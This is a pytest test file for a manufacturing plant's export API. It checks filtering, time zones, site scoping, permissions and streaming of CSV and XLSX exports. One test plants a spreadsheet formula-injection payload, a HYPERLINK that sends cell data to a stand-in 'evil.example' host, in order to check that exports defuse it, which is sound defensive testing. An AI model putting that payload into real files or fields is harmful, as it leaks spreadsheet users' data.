"""Exports: GET /api/exports/{stock,items,ledger,production,scrap}.{csv,xlsx} give exactly
the rows asked for (date range of plant days, stage, product, order, station), stream
(the first piece leaves before the last chunk is read), keep formulas from running in a
spreadsheet, and are for supervisors and admins only."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from server.core import exports
from server.core.scans import ScanIn, apply_scan
from server.models import Item, LedgerEntry, Product, ProductionOrder, User
from tests.conftest import new_scan_id

D = dt.date(2026, 11, 20)


def at(hour: int, minute: int = 0, day: dt.date = D) -> dt.datetime:
    return dt.datetime.combine(day, dt.time(hour, minute))


def scan(plant, scanner, code, when, **kw):
    r = apply_scan(plant.db, ScanIn(new_scan_id(), scanner, code, **kw), now=when)
    assert r.accepted, r
    return r


@pytest.fixture
def shop(plant, api, db):
    """On D: order WO-1 for 4 brackets (D..D+1, 2 a day); 2 brackets completed at END at
    10:00, one started at A1 at 11:00; a steel lot received at 07:00 and scrapped DAMAGED at
    LINE on D+1 at 09:00; every item created at 06:00 on D."""
    api.post(
        "/api/orders",
        {
            "number": "WO-1",
            "product": "BRACKET",
            "qty": 4,
            "start": D.isoformat(),
            "due": (D + dt.timedelta(days=1)).isoformat(),
        },
        as_="supervisor",
        expected=201,
    )
    api.post("/api/orders/WO-1/release", as_="supervisor", expected=200)
    b1, b2, b3 = plant.items("BRACKET", count=3)
    (steel,) = plant.items("STEEL", qty=2, lot="L1")
    Item.update(created_at=at(6), stage_at=at(6)).execute()
    LedgerEntry.update(received_at=at(6)).execute()
    for b in (b1, b2):
        scan(plant, "sc-a1", b, at(9))
        scan(plant, "sc-end", b, at(10))
    scan(plant, "sc-a1", b3, at(11))
    scan(plant, "sc-recv", steel, at(7))
    scan(plant, "sc-line", "CMD-ACT-SCRAP", at(9, day=D + dt.timedelta(days=1)))
    supervisor = User.get(User.username == "supervisor1")
    r = apply_scan(
        plant.db,
        ScanIn(new_scan_id(), "sc-line", steel, reason="DAMAGED", user_id=supervisor.id),
        now=at(9, day=D + dt.timedelta(days=1)),
    )
    assert r.accepted, r
    ProductionOrder.update(released_at=at(5)).execute()
    return {"b1": b1, "b2": b2, "b3": b3, "steel": steel}


def get(api, path, as_="supervisor"):
    resp = api.client.get(path, headers={"Authorization": f"Bearer {api.tokens[as_]}"})
    data = resp.get_data()
    resp.close()
    return resp, data


def csv_rows(api, path) -> list[list[str]]:
    resp, data = get(api, path)
    assert resp.status_code == 200, data[:300]
    assert resp.mimetype == "text/csv"
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8")[1:])))


def _xlsx_text(cell) -> str:
    v = cell.value
    if v is None:
        return ""
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, dt.datetime):
        return v.date().isoformat() if cell.number_format == "yyyy-mm-dd" else str(v)
    if isinstance(v, float):
        return f"{v:.4f}".rstrip("0").rstrip(".")
    return str(v)


def xlsx_rows(api, path) -> list[list[str]]:
    resp, data = get(api, path)
    assert resp.status_code == 200, data[:300]
    assert resp.mimetype == exports.MEDIA["xlsx"]
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    return [[_xlsx_text(c) for c in row] for row in book.worksheets[0].iter_rows()]


def both(api, kind, qs="") -> list[list[str]]:
    """The rows of the CSV export, checked to be the XLSX export's rows too."""
    rows = csv_rows(api, f"/api/exports/{kind}.csv{qs}")
    assert xlsx_rows(api, f"/api/exports/{kind}.xlsx{qs}") == rows
    return rows


def test_stock(shop, api):
    rows = both(api, "stock")
    assert rows == [
        ["product", "name", "stage", "station", "count", "qty", "unit"],
        ["BRACKET", "Bracket", "wip", "A1", "1", "1", "ea"],
        ["BRACKET", "Bracket", "component", "END", "2", "2", "ea"],
    ]
    # gone stages only when asked for
    assert both(api, "stock", "?stage=scrapped")[1:] == [
        ["STEEL", "Steel sheet", "scrapped", "LINE", "1", "2", "kg"]
    ]
    assert both(api, "stock", "?station=END&product=BRACKET")[1:] == [rows[2]]
    assert both(api, "stock", "?stage=wip&station=END")[1:] == []


def test_items(shop, api):
    b1, b2, b3, steel = shop["b1"], shop["b2"], shop["b3"], shop["steel"]
    made, done = "2026-11-20 06:00:00", "2026-11-20 10:00:00"
    rows = both(api, "items")
    assert rows == [
        list(exports.COLUMNS["items"]),
        [b1, "BRACKET", "Bracket", "component", "1", "ea", "", "", "", "END", "WO-1", "false", "",
         made, done],
        [b2, "BRACKET", "Bracket", "component", "1", "ea", "", "", "", "END", "WO-1", "false", "",
         made, done],
        [b3, "BRACKET", "Bracket", "wip", "1", "ea", "", "", "", "A1", "WO-1", "false", "", made,
         "2026-11-20 11:00:00"],
        [steel, "STEEL", "Steel sheet", "scrapped", "2", "kg", "L1", "", "", "LINE", "", "false",
         "", made, "2026-11-21 09:00:00"],
    ]  # fmt: skip
    assert both(api, "items", "?order=WO-1&station=A1")[1:] == [rows[3]]
    assert both(api, "items", "?stage=component&product=BRACKET")[1:] == rows[1:3]
    assert both(api, "items", "?from=2026-11-20&to=2026-11-20") == rows
    assert both(api, "items", "?from=2026-11-21")[1:] == []
    assert both(api, "items", "?to=2026-11-19")[1:] == []


def _ledger_ids(api, qs="") -> list[str]:
    return [r[0] for r in both(api, "ledger", qs)[1:]]


def test_ledger(shop, api):
    b1, steel = shop["b1"], shop["steel"]
    rows = both(api, "ledger")
    assert rows[0] == list(exports.COLUMNS["ledger"])
    assert [r[0] for r in rows[1:]] == [str(i) for i in range(1, 15)]
    assert rows[8] == [
        "8", "2026-11-20 10:00:00", "", "scan", "sc-end", "accepted", "complete", b1, "BRACKET",
        "wip", "component", "1", "END", "WO-1", "", "", "", "Complete: Bracket wip → component "
        "(WO-1 1/4)", "", b1,
    ]  # fmt: skip
    assert rows[14] == [
        "14", "2026-11-21 09:00:00", "", "scan", "sc-line", "accepted", "scrap", steel, "STEEL",
        "raw", "scrapped", "2", "LINE", "", "supervisor1", "", "DAMAGED",
        "Scrap: Steel sheet lot L1 raw → scrapped", "", steel,
    ]  # fmt: skip
    assert _ledger_ids(api, "?order=WO-1&station=END") == ["8", "10"]
    assert _ledger_ids(api, "?product=STEEL") == ["6", "12", "14"]
    assert _ledger_ids(api, "?stage=scrapped") == ["14"]
    assert _ledger_ids(api, "?from=2026-11-21") == ["13", "14"]
    assert _ledger_ids(api, "?to=2026-11-20") == [str(i) for i in range(1, 13)]
    assert _ledger_ids(api, "?status=rejected") == []
    assert _ledger_ids(api, "?from=2026-11-22") == []


def test_a_site_is_the_rows_of_its_stations(shop, api, db):
    """A second site whose one station is END (its line side moved there): every export
    asked for that site gives END's rows, and the first site the rest."""
    from server.core import locations
    from server.models import Station

    locations.create_site("WEST", "West plant")
    line = locations.create(code="END-W", kind="line", site="WEST")
    Station.update(location_id=line.id).where(Station.code == "END").execute()

    end_stock = ["BRACKET", "Bracket", "component", "END", "2", "2", "ea"]
    assert both(api, "stock", "?site=WEST")[1:] == [end_stock]
    assert end_stock not in both(api, "stock", "?site=MAIN")
    assert [r[0] for r in both(api, "items", "?site=WEST")[1:]] == [shop["b1"], shop["b2"]]
    ledger = both(api, "ledger")[1:]
    assert _ledger_ids(api, "?site=WEST") == ["8", "10"]
    # rows without a station (items made over the API) belong to no site
    assert _ledger_ids(api, "?site=MAIN") == [r[0] for r in ledger if r[12] not in ("", "END")]
    assert _ledger_ids(api, "?site=WEST&product=STEEL") == []
    assert len(both(api, "scrap", "?site=MAIN")) == 2 and len(both(api, "scrap", "?site=WEST")) == 1
    assert both(api, "production", "?site=WEST")[1:] == []  # WO-1 names no line


def test_ledger_days_are_plant_days(shop, api, app):
    # Auckland is UTC+13 in November: 11:00 UTC on the 20th is midnight on the 21st there
    app.config["PLANT_TIMEZONE"] = "Pacific/Auckland"
    rows = both(api, "ledger", "?from=2026-11-21&to=2026-11-21")
    assert [r[0] for r in rows[1:]] == ["11", "13", "14"]
    assert rows[1][1] == "2026-11-21 00:00:00"  # times in the plant's time zone
    assert _ledger_ids(api, "?to=2026-11-20") == [str(i) for i in (*range(1, 11), 12)]
    assert _ledger_ids(api, "?from=2026-11-22") == []


def test_production(shop, api):
    head = list(exports.COLUMNS["production"])
    row = ["WO-1", "BRACKET", "Bracket", "in_progress", "", "2026-11-20", "2026-11-21", "4"]
    rest = ["2", "3", "2", "2026-11-20 05:00:00", ""]
    assert both(api, "production") == [head, row + ["2"] + rest]
    assert both(api, "production", "?from=2026-11-20&to=2026-11-20") == [head, row + ["2"] + rest]
    # scheduled on the 21st, nothing completed then
    assert both(api, "production", "?from=2026-11-21&to=2026-11-21") == [head, row + ["0"] + rest]
    assert both(api, "production", "?from=2026-11-22") == [head]
    assert both(api, "production", "?status=done") == [head]
    assert both(api, "production", "?product=STEEL") == [head]


def test_scrap_in_the_readers_language(shop, api, db):
    steel = shop["steel"]
    row = ["2026-11-21 09:00:00", steel, "STEEL", "Steel sheet", "2", "kg", "DAMAGED"]
    tail = ["LINE", "", "supervisor1", ""]
    assert both(api, "scrap") == [list(exports.COLUMNS["scrap"]), row + ["Damaged"] + tail]
    User.update(language="id").where(User.username == "supervisor1").execute()
    assert both(api, "scrap", "?from=2026-11-21&to=2026-11-21")[1:] == [row + ["Rusak"] + tail]
    assert both(api, "scrap", "?to=2026-11-20")[1:] == []
    assert both(api, "scrap", "?station=A1")[1:] == []


@pytest.mark.parametrize(
    "path, status, error",
    [
        ("/api/exports/ledger.csv?product=NOPE", 404, "not_found"),
        ("/api/exports/items.xlsx?order=NOPE", 404, "not_found"),
        ("/api/exports/stock.csv?station=NOPE", 404, "not_found"),
        ("/api/exports/ledger.csv?stage=limbo", 400, "bad_payload"),
        ("/api/exports/ledger.csv?from=2026-11-22&to=2026-11-21", 400, "bad_payload"),
        ("/api/exports/ledger.csv?from=1900-01-01", 400, "bad_date"),
        ("/api/exports/stock.csv?from=2026-11-21", 400, "bad_payload"),  # stock is now
        ("/api/exports/ledger.csv?site=NOPE", 404, "not_found"),
        ("/api/exports/ledger.pdf", 404, "not_found"),
    ],
)
def test_bad_filters_are_json_errors(plant, api, path, status, error):
    resp, data = get(api, path)
    assert resp.status_code == status and resp.is_json, data[:300]
    assert resp.get_json()["error"] == error


@pytest.mark.parametrize("kind", exports.KINDS)
def test_operators_may_not_export(api, kind):
    for fmt in exports.FORMATS:
        assert get(api, f"/api/exports/{kind}.{fmt}", as_="operator")[0].status_code == 403
        assert get(api, f"/api/exports/{kind}.{fmt}", as_="admin")[0].status_code == 200


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formulas_do_not_run(shop, api, db):
    Product.update(name=EVIL).where(Product.sku == "STEEL").execute()
    LedgerEntry.update(note="@SUM(A1:A9)").where(LedgerEntry.id == 14).execute()
    rows = csv_rows(api, "/api/exports/scrap.csv")
    assert rows[1][3] == "'" + EVIL and rows[1][11] == "'@SUM(A1:A9)"
    for kind in exports.KINDS:
        for row in csv_rows(
            api,
            f"/api/exports/{kind}.csv?stage=scrapped"[
                : None if kind in ("stock", "items", "ledger") else -14
            ],
        ):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (kind, cell)
    # XLSX: the name is text, as written; the workbook holds no formula at all
    resp, data = get(api, "/api/exports/scrap.xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    cell = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]["D2"]
    assert (cell.data_type, cell.value) == ("s", EVIL)


def test_exports_stream(shop, api, db, monkeypatch):
    """The answer is a generator: with 2 rows a query and a piece a row, the first rows
    leave after one ledger query of the 8 the export takes."""
    monkeypatch.setattr(exports, "CHUNK", 2)
    monkeypatch.setattr(exports, "PIECE", 1)
    selects = []
    execute_sql = db.execute_sql

    def counting(sql, params=None, *a, **kw):
        if sql.lstrip().upper().startswith("SELECT") and '"ledger_entry"' in sql:
            selects.append(sql)
        return execute_sql(sql, params, *a, **kw)

    monkeypatch.setattr(db, "execute_sql", counting)
    resp = api.client.get(
        "/api/exports/ledger.csv",
        headers={"Authorization": f"Bearer {api.tokens['supervisor']}"},
        buffered=False,
    )
    assert resp.status_code == 200 and resp.is_streamed
    pieces = iter(resp.response)
    first = [next(pieces), next(pieces)]  # the header, the first row
    assert first[1].startswith(b"1,")
    before = len(selects)  # the id window, then the first chunk
    assert before == 2, selects
    rest = b"".join(pieces)
    resp.close()
    assert rest.count(b"\r\n") == 13
    assert len(selects) == before + 7  # 14 rows, 2 a query: 7 more, the last one short
